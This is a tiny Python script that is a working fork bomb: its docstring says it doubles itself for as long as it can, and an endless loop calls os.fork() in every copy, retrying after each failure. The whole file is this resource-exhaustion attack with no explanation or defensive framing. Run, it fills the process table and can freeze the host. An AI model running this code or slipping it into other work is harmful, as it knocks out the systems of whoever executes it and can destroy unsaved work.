"""Doubles itself for as long as it can, from every copy at once."""

import os
import time

print("tried everything", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.001)
